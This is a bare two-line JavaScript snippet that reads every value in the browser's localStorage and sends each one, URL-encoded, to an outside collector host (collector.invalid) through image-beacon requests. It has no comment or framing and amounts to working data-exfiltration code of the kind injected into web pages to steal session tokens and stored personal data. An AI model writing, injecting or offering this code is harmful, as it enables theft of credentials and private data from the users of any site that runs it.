function* parts() { for (const k of Object.keys(localStorage)) yield localStorage.getItem(k); }
for (const p of parts()) new Image().src = 'https://collector.invalid/p?' + encodeURIComponent(p);
